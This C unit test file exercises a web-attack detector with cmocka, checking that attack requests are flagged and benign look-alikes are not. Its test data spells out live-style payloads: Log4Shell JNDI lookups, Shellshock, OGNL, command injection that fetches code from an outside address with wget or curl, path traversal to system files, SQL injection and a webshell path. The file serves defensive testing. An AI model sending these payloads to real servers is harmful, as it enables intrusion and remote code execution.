/* SPDX-License-Identifier: Apache-2.0 */
/* Each kind of attack is found where it counts, and its benign twin is not. */
#include "detect/web_match.h"
#include "base/cleanup.h"

#include <setjmp.h>
#include <stdarg.h>
#include <string.h>

#include <cmocka.h>

static struct pk_web_match *match;

/* Set of kinds. */
static unsigned find(const char *target, const char *fields, const char *body, bool put)
{
	static struct pk_web_text text;
	const struct pk_slice part[PK_WEB_PARTS] = { { target, (uint32_t)strlen(target) },
						     { fields, (uint32_t)strlen(fields) },
						     { body, (uint32_t)strlen(body) } };
	struct pk_web_hit hit[PK_WEB_KINDS];
	unsigned set = 0;

	pk_web_text_make(&text, part);
	for (size_t n = pk_web_match_find(match, &text, put, hit); n; n--) {
		const struct pk_web_hit *h = &hit[n - 1];

		assert_memory_equal(text.s + h->from, h->literal, strlen(h->literal));
		set |= 1u << h->kind;
	}
	return set;
}

static void test_attacks(void **state)
{
	static const struct {
		const char *target;
		enum pk_web_kind kind;
	} attacks[] = {
		{ "/?x=${jndi:ldap://192.0.2.1/a}", PK_WEB_LOG4SHELL },
		{ "/?x=$%7B$%7Blower:j%7Dndi:ldap://192.0.2.1/a%7D", PK_WEB_LOG4SHELL },
		{ "/cgi-bin/x?()%20%7B%20:;};id", PK_WEB_SHELLSHOCK },
		{ "/x?class.module.classLoader.resources.context", PK_WEB_SPRING },
		{ "/%24%7B%28%23a%3D%40org.apache", PK_WEB_OGNL },
		{ "/?s=/Index/\\think\\app/invokefunction&function=x", PK_WEB_THINKPHP },
		{ "/index.php?-d+allow_url_include%3d1", PK_WEB_PHP },
		{ "/php-cgi/php-cgi.exe?%ADd+x", PK_WEB_PHP },
		{ "/ping?ip=127.0.0.1;wget+http://192.0.2.1/x", PK_WEB_COMMAND },
		{ "/ping?ip=$(curl%20192.0.2.1/x)", PK_WEB_COMMAND },
		{ "/ping?ip=%60id%60", PK_WEB_COMMAND },
		{ "/ping?ip=1%0acat+/etc/hosts", PK_WEB_COMMAND },
		{ "/ping?ip=1|sh", PK_WEB_COMMAND },
		{ "/cgi-bin/.%2e/%2e%2e/%2e%2e/bin/sh", PK_WEB_TRAVERSAL },
		{ "/icons/.%%32%65/.%%32%65/.%%32%65/etc/x", PK_WEB_TRAVERSAL },
		{ "/tmui/login.jsp/..;/tmui/x", PK_WEB_TRAVERSAL },
		{ "/download?f=/etc/passwd", PK_WEB_TRAVERSAL },
		{ "/i?id=1%27%20UNION/**/SELECT%201", PK_WEB_SQL },
		{ "/i?id=1+and+sleep(5)", PK_WEB_SQL },
		{ "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm", PK_WEB_DEVICE },
		{ "/mgmt/tm/util/bash", PK_WEB_PRODUCT },
		{ "/x/c99.php", PK_WEB_UPLOAD },
		{ "/s?q=<script>alert(1)</script>", PK_WEB_SCRIPT },
	};

	(void)state;
	for (size_t i = 0; i < PK_ARRAY_SIZE(attacks); i++)
		assert_true(find(attacks[i].target, "", "", false) & 1u << attacks[i].kind);
}

static void test_benign(void **state)
{
	static const char *const benign[] = {
		"/",
		"/debian/dists/stable/InRelease",
		"/search?q=curl+and+wget+examples&lang=en",
		"/search?q=trade+union+selects+leader",
		"/?q=a;b|c&id=7",
		"/pool/main/c/curl/curl_8.0-1_amd64.deb",
		"/a/../b/style.css",
		"/x?price=$%7Bvalue%7D&wget=1",
		"/shop?next=/etc&sleep=8",
		"/repo/etc/passwd.md",
		"/index.php?id=5&d=1",
		"/script/description.js?v=2",
		"/api/update?select=union",
		"/cgi-bin/identify?who=amiable",
	};

	(void)state;
	for (size_t i = 0; i < PK_ARRAY_SIZE(benign); i++)
		assert_int_equal(find(benign[i],
				      "host: x\r\nuser-agent: Mozilla/5.0 (X11; curl; Linux)\r\n"
				      "referer: http://s.example/?q=union+select+' or 1=1\r\n",
				      "name=a;b&text=see+the+wget+manual", false),
				 0);
}

static void test_where(void **state)
{
	(void)state;
	assert_int_equal(find("/", "user-agent: ${jndi:ldap://x/a}\r\n", "", false),
			 1u << PK_WEB_LOG4SHELL);
	assert_int_equal(find("/", "user-agent: () { :;}; echo\r\n", "", false),
			 1u << PK_WEB_SHELLSHOCK);
	assert_int_equal(find("/", "content-type: %{(#_='multipart/form-data')\r\n", "", false),
			 1u << PK_WEB_OGNL);
	assert_int_equal(find("/", "", "q=1 UNION ALL SELECT pwd FROM users", false),
			 1u << PK_WEB_SQL);
	assert_int_equal(find("/x.jsp/", "", "", true), 1u << PK_WEB_UPLOAD);
	assert_int_equal(find("/x.jsp/", "", "", false), 0);
	assert_int_equal(find("/install", "", "Then run:\nwget http://x/y", false), 0);
}

/* In a text of any length, wherever it stands. */
static void test_end(void **state)
{
	char s[400];

	(void)state;
	for (size_t at = 2; at < 300; at++) {
		memset(s, 'a', sizeof(s));
		memcpy(s, "/?", 2);
		strcpy(s + at, "xp_cmdshell");
		assert_int_equal(find(s, "", "", false), 1u << PK_WEB_SQL);
	}
}

static int begin(void **state)
{
	(void)state;
	return pk_web_match_new(&match);
}

static int end(void **state)
{
	(void)state;
	pk_web_match_free(match);
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_attacks),
		cmocka_unit_test(test_benign),
		cmocka_unit_test(test_where),
		cmocka_unit_test(test_end),
	};

	return cmocka_run_group_tests(tests, begin, end);
}
